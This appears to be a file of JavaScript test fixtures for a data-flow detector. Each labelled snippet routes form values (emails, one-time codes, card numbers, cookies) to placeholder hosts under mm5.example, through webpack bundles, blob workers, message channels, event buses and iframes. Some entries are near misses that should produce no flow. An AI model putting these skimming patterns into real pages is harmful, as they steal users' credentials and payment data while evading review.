//# webpack-module-table
// flow: email > wpt.mm5.example via fetch
(() => {
  var mods = {
    101: (m, exports, req) => { req.d(exports, { send: () => s }); var api = req(202); function s(v) { return api.post('/lead', v); } },
    202: (m, exports, req) => { req.d(exports, { post: () => p }); const base = 'https://wpt.mm5.example'; function p(path, v) { return fetch(base + path, { method: 'POST', body: v }); } },
  }, cache = {};
  function req(id) { var c = cache[id]; if (c !== undefined) return c.exports; var m = (cache[id] = { exports: {} }); mods[id](m, m.exports, req); return m.exports; }
  req.d = (e, d) => { for (var k in d) Object.prototype.hasOwnProperty.call(d, k) && !Object.prototype.hasOwnProperty.call(e, k) && Object.defineProperty(e, k, { enumerable: true, get: d[k] }); };
  (0, req(101).send)(document.querySelector('input[type=email]').value);
})();

//# webpack-module-array-unused-export
// no flow
// why: the entry calls `noop` of the module; `send` is exported and never called
(function (t) {
  var c = {};
  function r(i) { if (c[i]) return c[i].exports; var m = (c[i] = { exports: {} }); t[i].call(m.exports, m, m.exports, r); return m.exports; }
  r(0);
})([
  function (m, e, r) { r(1).noop(document.querySelector('input[type=email]').value); },
  function (m, e) { e.send = function (v) { fetch('https://wpu0.mm5.example/', { method: 'POST', body: v }); }; e.noop = function (v) { return v.length; }; },
]);

//# webpack-chunk-push
// flow: identifier > wcp.mm5.example via beacon
(self.webpackChunkapp = self.webpackChunkapp || []).push([[12], {
  77: function (m, e, r) { e.id = function () { return document.cookie; }; },
  78: function (m, e, r) { var i = r(77); navigator.sendBeacon('https://wcp.mm5.example/', i.id()); },
}, function (r) { r(78); }]);
(function (chunks) {
  var mods = {}, cache = {};
  function r(id) { if (cache[id]) return cache[id].exports; var m = (cache[id] = { exports: {} }); mods[id](m, m.exports, r); return m.exports; }
  function load(c) { for (var k in c[1]) mods[k] = c[1][k]; c[2] && c[2](r); }
  chunks.forEach(load);
  chunks.push = load;
})(self.webpackChunkapp);

//# ts-commonjs-default
// flow: phone > tcd.mm5.example via fetch
var __importDefault4 = function (m) { return m && m.__esModule ? m : { default: m }; };
var api4 = (function () { var exports = {}; Object.defineProperty(exports, '__esModule', { value: true }); exports.default = function (b) { return fetch('https://tcd.mm5.example/', { method: 'POST', body: b }); }; return exports; })();
var api_1 = __importDefault4(api4);
(0, api_1.default)(document.querySelector('input[type=tel]').value);

//# blob-worker-commands
// flow: message > bwc.mm5.example via fetch
// why: near miss: the command `log` with the password is not forwarded
const code5 = `self.onmessage = ({ data: { cmd, payload } }) => { if (cmd === 'save') fetch('https://bwc.mm5.example/', { method: 'POST', body: payload }); };`;
const worker5 = new Worker(URL.createObjectURL(new Blob([code5], { type: 'text/javascript' })));
worker5.postMessage({ cmd: 'save', payload: document.querySelector('textarea[name=message]').value });
worker5.postMessage({ cmd: 'log', payload: document.querySelector('input[type=password]').value });

//# data-url-worker
// flow: device > duw.mm5.example via fetch
const w6 = new Worker('data:text/javascript,' + encodeURIComponent("onmessage=function(e){fetch('https://duw.mm5.example/?r='+e.data.join('x'))}"));
w6.postMessage([screen.width, screen.height]);

//# shared-worker-port
// flow: search > shw.mm5.example via fetch
const src7 = "onconnect = (c) => { const p = c.ports[0]; p.onmessage = (e) => fetch('https://shw.mm5.example/?q=' + e.data); };";
const sw7 = new SharedWorker(URL.createObjectURL(new Blob([src7])));
sw7.port.postMessage(document.querySelector('input[type=search]').value);

//# port-transferred-to-worker
// flow: email > ptw.mm5.example via fetch
const ch8 = new MessageChannel();
const w8 = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => { e.ports[0].onmessage = (m) => fetch('https://ptw.mm5.example/', { method: 'POST', body: m.data }); };"])));
w8.postMessage('port', [ch8.port2]);
ch8.port1.postMessage(document.querySelector('input[type=email]').value);

//# event-bus-wildcard
// flow: username > ebw.mm5.example via fetch
class Bus9 {
  handlers = new Map();
  on(t, h) { (this.handlers.get(t) ?? this.handlers.set(t, []).get(t)).push(h); return this; }
  emit(t, p) { for (const h of this.handlers.get(t) ?? []) h(p); for (const h of this.handlers.get('*') ?? []) h(t, p); }
}
const bus9 = new Bus9();
bus9.on('*', (type, p) => fetch('https://ebw.mm5.example/', { method: 'POST', body: JSON.stringify({ type, p }) }));
bus9.emit('login', { user: document.querySelector('input[name=username]').value });

//# event-bus-other-topic
// no flow
// why: the sender listens to another topic than the one that carries the name
class Bus10 {
  handlers = {};
  on(t, h) { (this.handlers[t] ||= []).push(h); }
  emit(t, p) { (this.handlers[t] || []).forEach((h) => h(p)); }
}
const bus10 = new Bus10();
bus10.on('logout', (p) => fetch('https://ebo0.mm5.example/', { method: 'POST', body: JSON.stringify(p) }));
bus10.emit('login', { user: document.querySelector('input[name=username]').value });
bus10.emit('logout', { at: 1 });

//# custom-event-on-window
// flow: otp > cew.mm5.example via fetch
window.addEventListener('app:otp', ({ detail: { code } }) => { fetch('https://cew.mm5.example/', { method: 'POST', body: code }); });
const otp11 = document.querySelector('input[autocomplete=one-time-code]');
otp11.addEventListener('input', () => otp11.value.length === 6 && window.dispatchEvent(new CustomEvent('app:otp', { detail: { code: otp11.value } })));

//# rpc-by-message-id
// flow: identifier > rpc.mm5.example via fetch
const pending12 = new Map();
const ch12 = new MessageChannel();
let n12 = 0;
ch12.port1.onmessage = (e) => { pending12.get(e.data.id)(e.data.result); pending12.delete(e.data.id); };
ch12.port2.onmessage = (e) => { ch12.port2.postMessage({ id: e.data.id, result: localStorage.getItem(e.data.key) }); };
const ask12 = (key) => new Promise((ok) => { const id = ++n12; pending12.set(id, ok); ch12.port1.postMessage({ id, key }); });
ask12('uid').then((u) => fetch('https://rpc.mm5.example/?u=' + u));

//# frame-message-forwarded
// flow: card > fmf.mm5.example via fetch
const frame13 = document.createElement('iframe');
frame13.srcdoc = "<script>onmessage = (e) => fetch('https://fmf.mm5.example/', { method: 'POST', body: e.data.pan });<\/script>";
document.body.append(frame13);
frame13.onload = () => frame13.contentWindow.postMessage({ pan: document.querySelector('input[autocomplete=cc-number]').value }, '*');

//# opener-reply
// flow: email > ? via postmessage
// why: whoever sent the message is answered
window.addEventListener('message', (e) => {
  if (e.data === 'who') e.source.postMessage({ mail: document.querySelector('input[type=email]').value }, e.origin);
});

//# dynamic-import-then-constant
// no flow
// why: the module's address is fixed and it is told the locale that the script holds
import('https://dic0.mm5.example/m.js').then((m) => m.init({ locale: 'en' }));

//# dynamic-import-query
// flow: identifier > diq.mm5.example via import
const v16 = localStorage.getItem('visitor_id') ?? '';
import(`https://diq.mm5.example/w.js?v=${v16}`).then((m) => m.default());
